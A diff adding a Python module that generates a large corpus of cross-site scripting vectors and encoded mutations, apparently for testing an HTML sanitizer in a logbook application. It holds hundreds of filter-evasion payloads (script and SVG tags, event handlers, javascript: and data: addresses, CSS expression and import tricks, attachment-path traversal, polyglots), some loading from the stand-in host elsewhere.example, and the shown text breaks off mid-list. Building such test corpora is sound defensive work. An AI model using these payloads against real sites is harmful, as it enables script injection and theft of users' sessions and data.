@@ -1,0 +1,786 @@
+"""What attackers write into a logbook: vectors of every class of the OWASP list on evading filters, typed anew, and
+mutations of them. Each calls `trap` with its own number or loads something from elsewhere, so that whatever fires says who
+it was.
+
+In the templates TRAP is the call and SITE an address elsewhere, both with the number; VICTIM is a name that a page's script
+might rely on. ⟦dec …⟧ and its kind say how their inside is encoded, see ENCODINGS.
+"""
+
+import base64
+import random
+import re
+import urllib.parse
+
+HOST = "elsewhere.example"
+FIRST_MUTATION = 100_000
+
+ENCODINGS = {
+    "dec": lambda text: "".join(f"&#{ord(c)};" for c in text),
+    "bare": lambda text: "".join(f"&#{ord(c):07}" for c in text),
+    "hex": lambda text: "".join(f"&#x{ord(c):X};" for c in text),
+    "padded": lambda text: "".join(f"&#X{ord(c):07x}" for c in text),
+    "url": lambda text: "".join(f"%{b:02x}" for b in text.encode()),
+    "js": lambda text: "".join(f"\\u{ord(c):04x}" for c in text),
+    "octal": lambda text: "".join(f"\\{ord(c):o}" for c in text),
+    "css": lambda text: "".join(f"\\{ord(c):06x}" for c in text),
+    "codes": lambda text: ",".join(str(ord(c)) for c in text),
+    "b64": lambda text: base64.b64encode(text.encode()).decode(),
+    "utf7": lambda text: "+" + base64.b64encode(text.encode("utf-16-be")).decode().rstrip("=") + "-",
+    "ascii7": lambda text: "".join(chr(ord(c) | 0x80) for c in text),
+    "wide": lambda text: "".join(chr(ord(c) + 0xFEE0) if 0x21 <= ord(c) <= 0x7E else c for c in text),
+    "deep": lambda text: text * 600,
+}
+
+# Event handlers by what makes them run; those that fire by themselves have an element that does it.
+POINTER = """click dblclick auxclick contextmenu mousedown mouseup mouseenter mouseleave mousemove mouseover mouseout
+    mousewheel wheel pointerdown pointerup pointerenter pointerleave pointermove pointerover pointerout pointercancel
+    pointerrawupdate gotpointercapture lostpointercapture touchstart touchend touchmove touchcancel drag dragstart dragend
+    dragenter dragleave dragover drop"""
+KEYS = """keydown keyup keypress beforeinput input change invalid search select selectstart selectionchange submit reset
+    formdata copy cut paste beforecopy beforecut beforepaste focus blur focusin focusout cancel close beforetoggle command"""
+MEDIA = """abort canplay canplaythrough cuechange durationchange emptied ended error loadeddata loadedmetadata loadstart
+    pause play playing progress ratechange seeked seeking stalled suspend timeupdate volumechange waiting encrypted"""
+WINDOW = """afterprint beforeprint beforeunload hashchange languagechange message messageerror offline online pagehide
+    pageshow popstate rejectionhandled storage unhandledrejection unload resize scroll scrollend readystatechange"""
+MOTION = """animationcancel animationend animationiteration animationstart transitioncancel transitionend transitionrun
+    transitionstart webkitanimationend webkitanimationstart webkittransitionend toggle contentvisibilityautostatechange
+    scrollsnapchange securitypolicyviolation slotchange fullscreenchange"""
+OLD = """activate afterupdate beforeactivate beforeeditfocus bounce cellchange controlselect dataavailable filterchange
+    finish help layoutcomplete losecapture move propertychange rowenter start stop timeerror urlflip zoom seek repeat"""
+
+
+def handlers(names, element="b"):
+    return [f"<{element} on{name}=TRAP tabindex=0>w</{element}>" for name in names.split()]
+
+
+VECTORS = {
+    "script elements": [
+        "<script>TRAP</script>",
+        "<ScRiPt >TRAP</sCrIpT >",
+        "<script\n>TRAP</script\n>",
+        "<script/src=data:text/javascript,TRAP></script>",
+        "<script/x>TRAP</script/x>",
+        "<script type=module>TRAP</script>",
+        "<script type=text/ecmascript language=javascript>TRAP</script>",
+        "<script>TRAP",
+        "<script>TRAP//",
+        "<script>TRAP<!--",
+        "<script><!--\nTRAP\n--></script>",
+        "<script async defer>TRAP</script>",
+        "<svg><script>TRAP</script></svg>",
+        "<svg><script>&#116;&#114;&#97;&#112;⟦dec (⟧0);TRAP</script></svg>",
+        "<svg><script href=data:text/javascript,TRAP /></svg>",
+        "<svg><script xlink:href=data:,TRAP></script></svg>",
+        "<svg xmlns:x=http://www.w3.org/2000/svg><x:script>TRAP</x:script></svg>",
+        "<scr<script>ipt>TRAP</scr</script>ipt>",
+        "<<script>TRAP;//<</script>",
+        "<script>⟦js trap⟧`0`;TRAP</script>",
+        "<script>eval(String.fromCharCode(⟦codes TRAP⟧))</script>",
+        "<script>eval(atob('⟦b64 TRAP⟧'))</script>",
+        "<script>eval('⟦octal TRAP⟧')</script>",
+        "<script>[][`filter`][`constructor`](`TRAP`)()</script>",
+        "<script>throw onerror=()=>TRAP,1</script>",
+        "<script>document.write('<img src=x onerror=TRAP>')</script>",
+        "<script>setTimeout`TRAP`</script>",
+    ],
+    "scripts from elsewhere": [
+        "<script src=http://SITE.js></script>",
+        "<SCRIPT SRC=//SITE.js></SCRIPT>",
+        "<script src=//SITE.js?< b >",
+        "<script src=\\\\SITE.js></script>",
+        "<script src=/\\SITE></script>",
+        "<script src=https:SITE></script>",
+        "<script src=//SITE.jpg></script>",
+        '<script a=">" src="//SITE.js"></script>',
+        '<script =">" src="//SITE.js"></script>',
+        "<script a='>' '' src='//SITE.js'></script>",
+        '<script "a=\'>\'" src="//SITE.js"></script>',
+        "<script a=`>` src=//SITE.js></script>",
+        "<script a=\">'>\" src='//SITE.js'></script>",
+        "<script>document.write('<scri');</script>pt src=//SITE.js></script>",
+        "<script src=h\ttt\np://SITE.js></script>",
+        "<script src=//⟦wide elsewhere⟧.example/0></script><script src=//SITE></script>",
+        "<script src=http://user:pass@SITE></script>",
+        "<script type=module>import '//SITE.js'</script>",
+        "<link rel=modulepreload href=//SITE.js>",
+        "<link rel=preload as=script href=//SITE.js>",
+    ],
+    "handlers of errors and loads": [
+        "<img src=x onerror=TRAP>",
+        "<img src onerror=TRAP>",
+        "<img onerror=TRAP src=/>",
+        "<img src=# onmouseover=TRAP>",
+        "<img/src=x/onerror=TRAP>",
+        "<img\nsrc=x\nonerror=TRAP\n>",
+        "<img\x0csrc=x\x0conerror=TRAP>",
+        "<img src=x onerror\n=\nTRAP>",
+        "<img src=x onerror=⟦dec TRAP⟧>",
+        "<img src=x onerror=⟦bare TRAP⟧>",
+        "<img src=x onerror=⟦hex TRAP⟧>",
+        "<img src=x onerror=⟦padded TRAP⟧>",
+        "<img src=x ONERROR=TRAP>",
+        "<img src=x oNeRrOr='eval(\"⟦js TRAP⟧\")'>",
+        "<img src=x onerror=\"TRAP\"\">",
+        "<img src='x'onerror='TRAP'>",
+        "<img src=x:x onerror=TRAP//",
+        "<image src=x onerror=TRAP>",
+        "<image/src/onerror=TRAP>",
+        "<img srcset=x onerror=TRAP>",
+        "<img src=x onerror=window['tr'+'ap'](0);TRAP>",
+        "<img src=x onerror=(0,top.trap)``;TRAP>",
+        "<img src=data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA= onload=TRAP>",
+        "<picture><source srcset=x><img onerror=TRAP></picture>",
+        "<object data=x onerror=TRAP></object>",
+        "<object onerror=TRAP>",
+        "<iframe onload=TRAP></iframe>",
+        "<iframe/onload=TRAP src=about:blank>",
+        "<embed src=data:text/html,x onload=TRAP>",
+        "<link rel=stylesheet href=data:text/css, onload=TRAP>",
+        "<link rel=stylesheet href=x onerror=TRAP>",
+        "<style onload=TRAP></style>",
+        "<script src=x onerror=TRAP></script>",
+        "<script src=data:, onload=TRAP></script>",
+        "<input type=image src=x onerror=TRAP>",
+        "<svg onload=TRAP>",
+        "<svg/onload=TRAP//",
+        "<svg\tonload\t=\tTRAP\t>",
+        "<svg onload=TRAP<!--",
+        "<svg><g onload=TRAP></g></svg>",
+        "<svg><image href=x onerror=TRAP></svg>",
+        "<svg><image xlink:href=x onerror=TRAP /></svg>",
+        "<body onload=TRAP>",
+        "<body/onload=TRAP>",
+        "<body onpageshow=TRAP>",
+        "<frameset onload=TRAP>",
+        "<frameset><frame onload=TRAP></frameset>",
+        "<isindex type=image src=x onerror=TRAP>",
+    ],
+    "handlers of pointers": handlers(POINTER),
+    "handlers of keys and forms": handlers(KEYS, "input"),
+    "handlers of media": [
+        *(f"<video on{name}=TRAP controls></video>" for name in MEDIA.split()),
+        "<video src=x onerror=TRAP></video>",
+        "<video><source onerror=TRAP></video>",
+        "<video><source src=x onerror=TRAP></video>",
+        "<audio src=x onerror=TRAP></audio>",
+        "<audio><source src=x onerror=TRAP></audio>",
+        "<audio src onloadstart=TRAP>",
+        "<video poster=x src=data:video/mp4, onloadstart=TRAP></video>",
+        "<video><track default src=x onerror=TRAP><source src=data:video/mp4,></video>",
+    ],
+    "handlers of windows": handlers(WINDOW, "body"),
+    "handlers of motion": [
+        *handlers(MOTION, "div"),
+        "<style>@keyframes k{}</style><b style=animation-name:k onanimationstart=TRAP>",
+        "<style>@keyframes k{to{left:0}}</style><b style='animation:k 1ms' onanimationend=TRAP>",
+        "<b style='transition:color 1ms' ontransitionend=TRAP tabindex=0 id=t1>w</b>",
+        "<xss onfocus=TRAP autofocus tabindex=1>",
+        "<input autofocus onfocus=TRAP>",
+        "<input onblur=TRAP autofocus><input autofocus>",
+        "<textarea autofocus onfocus=TRAP>",
+        "<select autofocus onfocus=TRAP>",
+        "<button autofocus onfocus=TRAP>w</button>",
+        "<details open ontoggle=TRAP>",
+        "<details ontoggle=TRAP><summary>w</summary>x</details>",
+        "<dialog open onclose=TRAP><form method=dialog><button>w</button></form></dialog>",
+        "<b popover id=p onbeforetoggle=TRAP>w</b><button popovertarget=p>w</button>",
+        "<marquee onstart=TRAP>w</marquee>",
+        "<marquee loop=1 width=0 onfinish=TRAP>w</marquee>",
+        "<div style='content-visibility:auto' oncontentvisibilityautostatechange=TRAP>w</div>",
+        "<div style=overflow:auto;height:9px onscroll=TRAP><br><br><br><br><br><br><b autofocus tabindex=1>w</b></div>",
+    ],
+    "handlers of old browsers": handlers(OLD),
+    "javascript addresses": [
+        "<a href=javascript:TRAP>w</a>",
+        "<a href=JaVaScRiPt:TRAP>w</a>",
+        "<a href='java\tscript:TRAP'>w</a>",
+        "<a href='java\nscript:TRAP'>w</a>",
+        "<a href='java\rscript:TRAP'>w</a>",
+        "<a href='jav&#x09;ascript:TRAP'>w</a>",
+        "<a href='jav&#x0A;ascript:TRAP'>w</a>",
+        "<a href='jav&#x0D;ascript:TRAP'>w</a>",
+        "<a href='jav&Tab;asc&NewLine;ript&colon;TRAP'>w</a>",
+        "<a href=' &#14;  javascript:TRAP'>w</a>",
+        "<a href='\x01javascript:TRAP'>w</a>",
+        "<a href='&#1;&#31; javascript:TRAP'>w</a>",
+        "<a href='⟦dec javascript:TRAP⟧'>w</a>",
+        "<a href='⟦bare javascript:TRAP⟧'>w</a>",
+        "<a href='⟦hex javascript:TRAP⟧'>w</a>",
+        "<a href='⟦padded javascript:TRAP⟧'>w</a>",
+        "<a href='javascript&#58;TRAP'>w</a>",
+        "<a href='javascript&#x3a;TRAP'>w</a>",
+        "<a href='javascript:⟦url TRAP⟧'>w</a>",
+        "<a href='javascript:eval(\"⟦js TRAP⟧\")'>w</a>",
+        "<a href='javascript://%0aTRAP'>w</a>",
+        "<a href='javascript://elsewhere.example/%0d%0aTRAP//?https://x'>w</a>",
+        "<a href='javascript:void(TRAP)' target=_self>w</a>",
+        "<a href='javascript:\"<img src=x onerror=TRAP>\"'>w</a>",
+        "<a href=`javascript:TRAP`>w</a>",
+        "<a href=\"javascript:TRAP\"\">w</a>",
+        "<a/href=javascript:TRAP>w</a>",
+        "<a\x0chref=javascript:TRAP>w</a>",
+        "<a xlink:href=javascript:TRAP>w</a>",
+        "<a href=vbscript:TRAP href=javascript:TRAP>w</a>",
+        "<a href=\u00a0javascript:TRAP>w</a>",
+        "<a href=\ufeffjavascript:TRAP>w</a>",
+        "<a href=feed:javascript:TRAP>w</a>",
+        "<a href=view-source:javascript:TRAP>w</a>",
+        "<area href=javascript:TRAP>",
+        "<map name=m><area shape=default href=javascript:TRAP></map><img usemap=#m src=x>",
+        "<form action=javascript:TRAP><button>w</button></form>",
+        "<form action=javascript:TRAP><input type=submit></form>",
+        "<form action=javascript:TRAP><input type=image src=x></form>",
+        "<form><button formaction=javascript:TRAP>w</button></form>",
+        "<form id=f1></form><button form=f1 formaction=java&Tab;script:TRAP>w</button>",
+        "<form><input type=submit formaction=javascript:TRAP></form>",
+        "<form action=javascript:TRAP><keygen autofocus><button>w</button>",
+        "<isindex action=javascript:TRAP type=submit>",
+        "<iframe src=javascript:TRAP></iframe>",
+        "<iframe src='java&#10;script:TRAP'></iframe>",
+        "<iframe/src='javas\tcript:TRAP'",
+        "<frameset><frame src=javascript:TRAP></frameset>",
+        "<object data=javascript:TRAP></object>",
+        "<embed src=javascript:TRAP>",
+        "<embed code=javascript:TRAP>",
+        "<svg><a href=javascript:TRAP><text y=9>w</text></a></svg>",
+        "<svg><a xlink:href='java\nscript:TRAP'><text y=9>w</text></a></svg>",
+        "<math href=javascript:TRAP>w</math>",
+        "<math xlink:href=javascript:TRAP>w</math>",
+        "<math><mi href=javascript:TRAP>w</mi></math>",
+        "<math><mrow xlink:type=simple xlink:href=javascript:TRAP><mi>w</mi></mrow></math>",
+        "<math><maction actiontype=statusline#javascript:TRAP xlink:href=javascript:TRAP>w</maction></math>",
+        "<meta http-equiv=refresh content='0;url=javascript:TRAP'>",
+        "<base href=javascript:TRAP//><a href=#>w</a>",
+    ],
+    "script addresses of images and others": [
+        "<img src=javascript:TRAP>",
+        "<img src='jav\tascript:TRAP'>",
+        "<img src=`javascript:TRAP`>",
+        '<img """><script>TRAP</script>">',
+        "<img dynsrc=javascript:TRAP>",
+        "<img lowsrc=javascript:TRAP>",
+        "<img longdesc=javascript:TRAP src=x>",
+        "<img src=livescript:TRAP>",
+        "<img src=mocha:TRAP>",
+        "<img src='vbscript:msgbox(TRAP)'>",
+        "<a href=vbscript:TRAP>w</a>",
+        "<a href='vbs\tcript:TRAP'>w</a>",
+        "<body background=javascript:TRAP>",
+        "<table background=javascript:TRAP><td>w</table>",
+        "<table><td background=javascript:TRAP>w</table>",
+        "<bgsound src=javascript:TRAP>",
+        "<input type=image src=javascript:TRAP>",
+        "<link rel=stylesheet href=javascript:TRAP>",
+        "<layer src=javascript:TRAP></layer>",
+        "<ilayer src=javascript:TRAP></ilayer>",
+        "<br size=\"&{TRAP}\">",
+        "<applet code=javascript:TRAP></applet>",
+        "<blockquote cite=javascript:TRAP>w</blockquote>",
+        "<q cite=javascript:TRAP>w</q><del cite=javascript:TRAP>w</del>",
+        "<img src='mocha:[code]' onerror=void(0)><xml src=javascript:TRAP>",
+        "<video src=javascript:TRAP></video><audio src=javascript:TRAP></audio>",
+        "<portal src=javascript:TRAP></portal>",
+        "<a href=intent:TRAP>w</a><a href=ms-appx:TRAP>w</a><a href=blob:TRAP>w</a><a href=filesystem:TRAP>w</a>",
+    ],
+    "data addresses": [
+        "<a href='data:text/html,<script>parent.postMessage({trap:0})</script>'>w</a><img src=x onerror=TRAP>",
+        "<a href=data:text/html;base64,⟦b64 <script>TRAP</script>⟧>w</a>",
+        "<iframe src='data:text/html,<script>TRAP</script>'></iframe>",
+        "<iframe src=data:text/html;base64,⟦b64 <script>TRAP</script>⟧></iframe>",
+        "<iframe src='DaTa:text/html;charset=utf-7,⟦utf7 <script>TRAP</script>⟧'></iframe>",
+        "<iframe src='d\ta\nta:text/html,<svg onload=TRAP>'></iframe>",
+        "<iframe src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"TRAP\"/>'></iframe>",
+        "<iframe src='data:application/xhtml+xml,<script xmlns=\"http://www.w3.org/1999/xhtml\">TRAP</script>'></iframe>",
+        "<object data='data:text/html,<script>TRAP</script>'></object>",
+        "<object data=data:text/html;base64,⟦b64 <script>TRAP</script>⟧></object>",
+        "<object type=image/svg+xml data='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\"><script>TRAP</script></svg>'>",
+        "<embed src=data:image/svg+xml;base64,⟦b64 <svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"TRAP\"/>⟧>",
+        "<embed src='data:text/html,<script>TRAP</script>'>",
+        "<img src=data:image/svg+xml;base64,⟦b64 <svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"TRAP\"/>⟧>",
+        "<img src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\"><script>TRAP</script></svg>'>",
+        "<img src=\"data:image/png,<img src=x onerror=TRAP>\">",
+        "<img src='data:image/png;base64,\"><img src=x onerror=TRAP>'>",
+        "<img src=data:image/gif;base64,R0lGODlhPHNjcmlwdD4= onerror=TRAP>",
+        "<script src=data:text/javascript;base64,⟦b64 TRAP⟧></script>",
+        "<script src=\"data:text/javascript,TRAP//\"></script>",
+        "<link rel=stylesheet href='data:text/css,*{background:url(//SITE)}'>",
+        "<meta http-equiv=refresh content='0;url=data:text/html,<script>TRAP</script>'>",
+        "<form action='data:text/html,<script>TRAP</script>'><button>w</button></form>",
+        "<svg><use href='data:image/svg+xml,<svg id=x xmlns=\"http://www.w3.org/2000/svg\"><image href=\"1\" onerror=\"TRAP\"/></svg>#x'/></svg>",
+        "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='TRAP'/>",
+        "<a href=\"data:image/png;base64,x\"onclick=TRAP>w</a>",
+        "<img alt='data:image/png' title=data:image/x,' src=x onerror=TRAP//'>",
+    ],
+    "malformed elements": [
+        "<a onmouseover=\"TRAP\">w</a>",
+        "<a onmouseover=TRAP\\>w</a\\>",
+        "\\<a onmouseover=TRAP\\>w\\</a\\>",
+        "<img \"\"\"><script>TRAP</script>\"\\>",
+        "<img src=\"x` `<script>TRAP</script>\"` `>",
+        "<img src=x` onerror=TRAP `>",
+        "<img src=\"\"onerror=TRAP>",
+        "<b/onclick=TRAP/>w",
+        "<b <b onclick=TRAP>w",
+        "<b a='><img src=x onerror=TRAP>",
+        "<b a=\"'><img src=x onerror=TRAP>",
+        "<b a='\"></b><img src=x onerror=TRAP>'>\"><img src=x onerror=TRAP>",
+        "<a title=\"--><img src=x onerror=TRAP>\">w</a>",
+        "<a title='</a><img src=x onerror=TRAP>'>w</a>",
+        "<a title='</title></style></script></textarea></xmp></noscript><img src=x onerror=TRAP>'>w</a>",
+        "<p title='`><img src=x onerror=TRAP>`'>w</p>",
+        "<p lang='\"><img src=x onerror=TRAP>'>w</p>",
+        "<td headers='\"><img src=x onerror=TRAP>'>w</td>",
+        "<table summary='\"><img src=x onerror=TRAP>'><td>w</table>",
+        "<img alt='\" onerror=TRAP x=\"' src=x>",
+        "<img alt=`<img src=x onerror=TRAP>` src=x>",
+        "<img alt='``onerror=TRAP ' src=x>",
+        "<a href='http://x.example/\" onclick=\"TRAP'>w</a>",
+        "<a href='http://x.example/&quot; onclick=&quot;TRAP'>w</a>",
+        "<a href='mailto:x?\"><script>TRAP</script>'>w</a>",
+        "<p\u2028onclick=TRAP>w<img\u00a0src=x onerror=TRAP><img src=x onerror=TRAP>",
+        "<img src=x onerror=TRAP",
+        "<img src=x onerror=TRAP <p>w</p>",
+        "</p onclick=TRAP><img src=x onerror=TRAP></br onclick=TRAP>",
+        "<p/=/><img/=src=x src=x onerror=TRAP>",
+        "<= <img src=x onerror=TRAP>",
+        "<?x <img src=x onerror=TRAP>",
+        "<!x <img src=x onerror=TRAP>",
+        "</ <img src=x onerror=TRAP>><img src=x onerror=TRAP>",
+        "<1<img src=x onerror=TRAP>",
+        "<img src=x onerror=\u0130TRAP><\u017fcript>TRAP</\u017fcript><svg onload=TRAP>",
+        "<x:img src=x onerror=TRAP><html:img src=x onerror=TRAP xmlns:html=http://www.w3.org/1999/xhtml><img src=x onerror=TRAP>",
+        "<custom-element onclick=TRAP is=script>w</custom-element>",
+        "<b onclick='TRAP' onclick='0'>w</b>",
+        "<plaintext/onmouseover=TRAP>w",
+        "<iframe src=//SITE <",
+        "<img src='//SITE? w <p>w</p>' alt=\"",
+        "';TRAP//\\';TRAP//\";TRAP//--></script>\">'><script>TRAP</script>=&{}",
+        "jaVasCript:/*-/*`/*'/*\"/**/(/* */oNcliCk=TRAP )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/<sVg/oNloAd=TRAP//>",
+        "\"><svg/onload=TRAP>",
+        "'-TRAP-'\" autofocus onfocus=TRAP x=\"<svg onload=TRAP>",
+        "</title><script>TRAP</script>",
+        "</textarea><script>TRAP</script>",
+        "]]><script>TRAP</script>",
+        "</article></main></body></html><script>TRAP</script>",
+        "&lt;script&gt;TRAP&lt;/script&gt;<svg onload=TRAP>",
+        "&amp;lt;img src=x onerror=TRAP&amp;gt;<svg onload=TRAP>",
+    ],
+    "comments and sections": [
+        "<!--><img src=x onerror=TRAP>-->",
+        "<!---><img src=x onerror=TRAP>-->",
+        "<!-- --!><img src=x onerror=TRAP>-->",
+        "<!--x--!x--!><img src=x onerror=TRAP>",
+        "<!-- <!-- --><img src=x onerror=TRAP> -->",
+        "<!--[if gte IE 4]><script>TRAP</script><![endif]--><svg onload=TRAP>",
+        "<![if true]><script>TRAP</script><![endif]>",
+        "<comment><img src=\"</comment><img src=x onerror=TRAP>\">",
+        "<!--`<img src=x onerror=TRAP>`--><img src=x onerror=TRAP>",
+        "<![CDATA[><img src=x onerror=TRAP>]]>",
+        "<svg><![CDATA[<img src=x onerror=TRAP>]]></svg><svg onload=TRAP>",
+        "<svg><![CDATA[]]><image href=x onerror=TRAP></svg>",
+        "<math><![CDATA[</math><img src=x onerror=TRAP>]]></math><img src=x onerror=TRAP>",
+        "<svg><p><![CDATA[><img src=x onerror=TRAP>]]>",
+        "<?xml version=1.0?><img src=x onerror=TRAP>",
+        "<?php echo('<script>TRAP</script>')?><svg onload=TRAP>",
+        "<!--#exec cmd='echo'--><!--#include file='x'--><svg onload=TRAP>",
+        "<!DOCTYPE x [<!ENTITY y '<img src=x onerror=TRAP>'>]>&y;<img src=x onerror=TRAP>",
+        "<!ATTLIST x onclick CDATA 'TRAP'><!--\x00--><svg onload=TRAP>",
+        "<xml id=i><x><c><![CDATA[<img src=\"javas]]><![CDATA[cript:TRAP\">]]></c></x></xml><span datasrc=#i datafld=c dataformatas=html>w</span>",
+        "<xml src=x.xml id=i></xml><span datasrc=#i datafld=c dataformatas=html>w</span>",
+        "<html xmlns:t=urn:schemas-microsoft-com:time><?import namespace=t implementation=#default#time2><t:set attributeName=innerHTML to='<script defer>TRAP</script>'>",
+        "<% <img src=x onerror=TRAP> %>",
+        "{{constructor.constructor('TRAP')()}}<svg onload=TRAP>",
+    ],
+    "styles": [
+        "<style>@import'//SITE.css';</style>",
+        "<style>@import url(//SITE.css);</style>",
+        "<style>@\\0069mport '//SITE.css';</style>",
+        "<style>@im\\port'//SITE';</style>",
+        "<style>*{background:url(//SITE.png)}</style>",
+        "<style>@font-face{font-family:x;src:url(//SITE)}*{font-family:x}</style>w",
+        "<style>*{-moz-binding:url(//SITE.xml#x)}</style>",
+        "<style>li{list-style-image:url(javascript:TRAP)}</style><ul><li>w</ul>",
+        "<style>.x{background-image:url('javascript:TRAP')}</style><a class=x></a>",
+        "<style type=text/javascript>TRAP</style>",
+        "<style>@charset 'utf-7';⟦utf7 *{background:url(//SITE)}⟧</style>",
+        "<link rel=stylesheet href=//SITE.css>",
+        "<link rel='alternate stylesheet' href=//SITE.css>",
+        "<link href=//SITE rel=StyleSheet>",
+        "<meta http-equiv=Link content='<//SITE.css>; rel=stylesheet'>",
+        "<p style=background:url(//SITE.png)>w</p>",
+        "<p style='background-image:u\\72l(//SITE)'>w</p>",
+        "<p style='background:⟦css url⟧(//SITE)'>w</p>",
+        "<p style='background:&#117;rl(//SITE)'>w</p>",
+        "<p style='background:image-set(\"//SITE\" 1x)'>w</p>",
+        "<p style='cursor:url(//SITE),auto;list-style:url(//SITE)'>w</p><ul><li style='list-style:url(//SITE)'>w</ul>",
+        "<p style='border-image:url(//SITE);mask:url(//SITE);filter:url(//SITE#x)'>w</p>",
+        "<p style=\"content:url('//SITE')\">w</p>",
+        "<p style=width:expression(TRAP)>w</p>",
+        "<p style='xss:expr/*x*/ession(TRAP)'>w</p>",
+        "<img style='xss:expr/**/ession(TRAP)' src=x>",
+        "<p style='background-image:url(javascript:TRAP)'>w</p>",
+        "<p style='background-image:url(&#1;javascript:TRAP)'>w</p>",
+        "<p style='⟦wide background⟧:⟦wide url⟧(javascript:TRAP)'>w</p>",
+        "<p style='behavior:url(x.htc)'>w</p>",
+        "<p style='-o-link:\"javascript:TRAP\";-o-link-source:current'>w</p>",
+        "<xss style='xss:expression(TRAP)'>",
+        "<p style=\"}</style><img src=x onerror=TRAP>\">w</p><svg onload=TRAP>",
+        "<style></style><img src=x onerror=TRAP>",
+        "<style><style/><img src=x onerror=TRAP>",
+        "<style>*{}<!--</style><img src=x onerror=TRAP>--></style>",
+        "<div style='position:fixed;inset:0;z-index:9;background:url(//SITE)'>w</div>",
+        "<font style='color:url(//SITE);background:url(//SITE)' face=x>w</font>",
+    ],
+    "loads from elsewhere": [
+        "<img src=//SITE.png>",
+        "<img src=https://SITE.png>",
+        "<img src=\\\\SITE>",
+        "<img src=/\\SITE>",
+        "<img src='/\t/SITE'>",
+        "<img srcset='//SITE 1x'>",
+        "<img src='' srcset='x 1x, //SITE 2x' sizes=1px>",
+        "<picture><source srcset=//SITE><img></picture>",
+        "<image src=//SITE>",
+        "<img src=x lowsrc=//SITE dynsrc=//SITE longdesc=//SITE><body background=//SITE>",
+        "<table background=//SITE><td>w</table>",
+        "<table><tr><td background=//SITE>w</table>",
+        "<table><tr><th background=//SITE>w</table>",
+        "<body background=//SITE>",
+        "<video poster=//SITE></video>",
+        "<video src=//SITE></video>",
+        "<video><source src=//SITE></video>",
+        "<audio src=//SITE preload=auto></audio>",
+        "<input type=image src=//SITE>",
+        "<iframe src=//SITE></iframe>",
+        "<embed src=//SITE>",
+        "<object data=//SITE></object>",
+        "<object><param name=src value=//SITE></object><embed src=//SITE>",
+        "<frameset><frame src=//SITE></frameset>",
+        "<svg><image href=//SITE /></svg>",
+        "<svg><image xlink:href=//SITE /></svg>",
+        "<svg><feImage href=//SITE /></svg><svg><filter id=i><feImage href=//SITE /></filter><rect width=9 height=9 filter=url(#i) /></svg>",
+        "<svg><use href=//SITE#x /></svg>",
+        "<svg><rect fill='url(//SITE#x)' width=9 height=9 /></svg><svg><image href=//SITE /></svg>",
+        "<link rel=prefetch href=//SITE>",
+        "<link rel=preload as=image href=//SITE>",
+        "<link rel=icon href=//SITE>",
+        "<link rel=manifest href=//SITE>",
+        "<meta http-equiv=refresh content='0;url=//SITE'>",
+        "<meta http-equiv=refresh content='0;url=http://x.example/;url=//SITE'>",
+        "<a ping=//SITE href=#x>w</a>",
+        "<a href=# ping='x //SITE' target=_self>w</a>",
+        "<form action=//SITE><button>w</button></form>",
+        "<form action=//SITE><input type=submit></form>",
+        "<button form=f2 formaction=//SITE>w</button><form id=f2></form>",
+        "<base href=//SITE/><img src=x>",
+        "<base target=x><base href=http://SITE/><script src=y></script>",
+        "<bgsound src=//SITE>",
+        "<img src=/resource/file/x://SITE><img src=//SITE>",
+        "<img src='//SITE/resource/x/file/download?resourceId=665f1c2ab7d0e84c1a2bf001'>",
+        "<img src='https://SITE/resource/x/file/download?resourceId=665f1c2ab7d0e84c1a2bf001'>",
+        "<p>src=\"<img src=\"https://SITE/resource/x/file/download?resourceId=665f1c2ab7d0e84c1a2bf001\">",
+        "<p>href=\"<img src=\"//SITE/resource/x/file/download?resourceId=665f1c2ab7d0e84c1a2bf001\"></p>\"",
+        "<table><td width='9' charoff='//SITE'>w</table><img src=//SITE>",
+        "<img src='http:SITE'><img src='http:/SITE'><img src='http:///SITE'>",
+    ],
+    "addresses of attachments": [
+        "<img src=/resource/file/../../logbook/SITE>",
+        "<img src=/resource/file/..%2f..%2flogbook/SITE>",
+        "<img src='/resource/file/\\..\\..\\logbook/SITE'>",
+        "<img src='/resource/file/%2e%2e/%2e%2e/auth/SITE'>",
+        "<img src='/resource/file/665f1c2ab7d0e84c1a2bf001/../../../SITE'>",
+        "<img src='/resource/../SITE/resource/x/file/download?resourceId=665f1c2ab7d0e84c1a2bf001'>",
+        "src=\"/resource/x/file/download?resourceId=665f1c2ab7d0e84c1a2bf001&amp;<a title=\"<img src=x onerror=TRAP>\">w</a>",
+        "<p>href=\"x/resource/x/file/download?resourceId=665f1c2ab7d0e84c1a2bf001&<p title=\" onclick=TRAP x=\">w</p>",
+        "<p>src=\"/resource/x/file/download?resourceId=665f1c2ab7d0e84c1a2bf001#</p><p lang=\"<svg onload=TRAP>\">w</p>",
+        "<p>src=\"/resource/file/665f1c2ab7d0e84c1a2bf001\"><img src=x onerror=TRAP>",
+        "<a href='/resource/file/\"onclick=TRAP x='>w</a>",
+        "<img src='/resource/file/\"onerror=TRAP x='>",
+        "<img src='/resource/file/x' alt='src=\"/resource/file/\"onerror=TRAP>'>",
+        "<img src='/resource/x/file/download?resourceId=665f1c2ab7d0e84c1a2bf001\"onerror=TRAP x='>",
+        "<img src='javascript:/resource/x/file/download?resourceId=665f1c2ab7d0e84c1a2bf001;TRAP'>",
+        "<a href='javascript:TRAP//resource/x/file/download?resourceId=665f1c2ab7d0e84c1a2bf001'>w</a>",
+    ],
+    "documents within": [
+        "<iframe srcdoc='<script>TRAP</script>'></iframe>",
+        "<iframe srcdoc='&lt;img src=x onerror=TRAP&gt;'></iframe>",
+        "<iframe srcdoc=\"⟦hex <svg onload=TRAP>⟧\"></iframe>",
+        "<iframe src=about:blank srcdoc='<svg/onload=TRAP>' sandbox=allow-scripts></iframe>",
+        "<iframe srcdoc='<p>w</p><iframe srcdoc=\"<script>TRAP</script>\"></iframe>'>",
+        "<iframe><img src=x onerror=TRAP></iframe><iframe onload=TRAP>",
+        "<object><img src=x onerror=TRAP></object>",
+        "<object classid=clsid:x><img src=x onerror=TRAP></object>",
+        "<object type=text/x-scriptlet data=//SITE></object>",
+        "<video><img src=x onerror=TRAP></video>",
+        "<canvas><img src=x onerror=TRAP></canvas>",
